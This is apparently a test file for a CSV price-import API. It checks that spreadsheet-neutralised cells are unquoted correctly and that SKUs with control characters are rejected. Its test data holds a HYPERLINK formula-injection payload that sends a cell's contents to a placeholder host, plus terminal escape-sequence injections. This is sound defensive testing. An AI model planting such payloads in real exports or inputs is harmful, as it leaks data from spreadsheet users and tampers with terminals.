import { describe, expect, it } from 'vitest';
import { enginesUnderTest } from '../support/engines.js';
import { beyondImports, snapshotStore } from '../support/store-snapshot.js';
import { suiteServer } from '../support/suite-server.js';
import type { Import } from '../../src/contract/imports.js';

/** SKUs a spreadsheet would run as formulas, and ones that only look like neutralised cells. */
const HOSTILE_SKUS = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", "''+X", '@x', '-1', '+1', '=1+1', "'plain", 'A=B'];

/** What the CLI and the admin page write for them: one quote in front of a cell that would start a formula. */
const written = (sku: string) => (/^'*[=+\-@\t\r]/.test(sku) ? `'${sku}` : sku);
/** A field as CSV writes it. */
const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

/**
 * `POST /v1/imports` reads cells neutralised for spreadsheets (`'=…`) as the values they stand
 * for: one leading quote before `= + - @`, tab or CR is taken off. SKU cells with control
 * characters are refused with their row and column, as the API refuses them in JSON.
 */
describe.each(await enginesUnderTest())('neutralised cells and control characters in CSV imports on %s', (engine) => {
  const suite = suiteServer(engine, { catalogs: true });

  async function imported(csv: string, query: string): Promise<Import> {
    const response = await suite.api.request('POST', `/v1/imports${query}`, {
      token: suite.tenant.token,
      rawBody: csv,
      headers: { 'content-type': 'text/csv' },
    });
    expect(response.status, response.text).toBe(202);
    const deadline = Date.now() + 30_000;
    for (;;) {
      const current = (await suite.api.request('GET', `/v1/imports/${(response.body as { id: number }).id}`, { token: suite.tenant.token })).body as Import;
      if (current.status === 'succeeded' || current.status === 'failed') return current;
      if (Date.now() > deadline) throw new Error(`import still ${current.status} after 30 s`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  it('takes one quote off a neutralised cell, in both formats and in dry runs: the prices land on the SKUs as they are', async () => {
    const token = suite.tenant.token;
    const product = await suite.api.request('POST', '/v1/products', {
      token,
      body: { title: 'Formulas', price: 1, variations: HOSTILE_SKUS.map((sku) => ({ sku })) },
    });
    expect(product.status, product.text).toBe(201);
    const customer = suite.catalog.tradeCustomer;
    const long = ['customer_id,sku,price', ...HOSTILE_SKUS.map((sku, index) => `${customer},${field(written(sku))},${index + 1}`)].join('\r\n');

    const dryRun = await imported(long, '?mode=replace&dryRun=true');
    expect([dryRun.status, dryRun.errors, dryRun.result]).toEqual(['succeeded', [], { created: HOSTILE_SKUS.length, deleted: 0, unchanged: 0 }]);
    const applied = await imported(long, '?mode=replace');
    expect([applied.status, applied.result]).toEqual(['succeeded', { created: HOSTILE_SKUS.length, deleted: 0, unchanged: 0 }]);
    const prices = (await suite.api.request('GET', `/v1/trade-customer-product-prices?customerId=${customer}&count=100`, { token })).body as Array<{
      sku: string;
      price: number;
    }>;
    expect(prices.map(({ sku, price }) => [sku, price])).toEqual(HOSTILE_SKUS.map((sku, index) => [sku, index + 1]));

    // The matrix: the same SKUs, the other trade customer's column; a replace of the same file again changes nothing.
    const other = suite.catalog.otherTradeCustomer;
    const matrix = [`sku,${other}`, ...HOSTILE_SKUS.map((sku, index) => `${field(written(sku))},${index + 0.5}`)].join('\n');
    expect((await imported(matrix, '?mode=replace')).result).toEqual({ created: HOSTILE_SKUS.length, deleted: 0, unchanged: 0 });
    expect((await imported(matrix, '?mode=replace&dryRun=true')).result).toEqual({ created: 0, deleted: 0, unchanged: HOSTILE_SKUS.length });
    expect((await imported(long, '?mode=replace&dryRun=true')).result).toEqual({ created: 0, deleted: 0, unchanged: HOSTILE_SKUS.length });
  });

  it('refuses a price cell that starts with a quoted minus or formula like any other non-price, and SKU cells with control characters, naming row and column; nothing changes', async () => {
    const { tradeCustomer: customer, skus } = suite.catalog;
    const before = await snapshotStore(suite.server.services.database, suite.tenant.storeId);
    const csv = [
      'customer_id,sku,price',
      `${customer},${skus.mug},'-1`,
      `${customer},${skus.mug},'=1+1`,
      `${customer},${skus.mug},-0`,
      `${customer},${skus.mug}\u001b[31m,1`,
      `${customer},\u009b${skus.mug},1`,
      `${customer},"'\u001b]0;owned\u0007",1`,
      `${customer},${skus.mug},1`,
    ].join('\n');
    const failed = await imported(csv, '?mode=add');
    expect(failed.status).toBe('failed');
    expect(failed.errors).toEqual([
      { row: 2, field: 'price', message: "must be a price: digits with at most 4 decimals after a point, below 1000000000, got '-1'" },
      { row: 3, field: 'price', message: "must be a price: digits with at most 4 decimals after a point, below 1000000000, got '=1+1'" },
      { row: 4, field: 'price', message: "must be a price: digits with at most 4 decimals after a point, below 1000000000, got '-0'" },
      { row: 5, field: 'sku', message: `must not contain control characters (U+001B at position ${skus.mug.length + 1})` },
      { row: 6, field: 'sku', message: 'must not contain control characters (U+009B at position 1)' },
      { row: 7, field: 'sku', message: 'must not contain control characters (U+001B at position 2)' },
    ]);
    const matrix = await imported(`sku,${customer}\n${skus.tee}\u0007,1\n${skus.mug},2\n`, '?mode=add&dryRun=true');
    expect([matrix.status, matrix.errors]).toEqual([
      'failed',
      [{ row: 2, field: 'sku', message: `must not contain control characters (U+0007 at position ${skus.tee.length + 1})` }],
    ]);
    const after = await snapshotStore(suite.server.services.database, suite.tenant.storeId);
    // Only the imports themselves were recorded (and their events); an earlier import's file
    // slices may be cleared meanwhile, once it has ended.
    expect(beyondImports(after)).toEqual(beyondImports(before));
  });
});
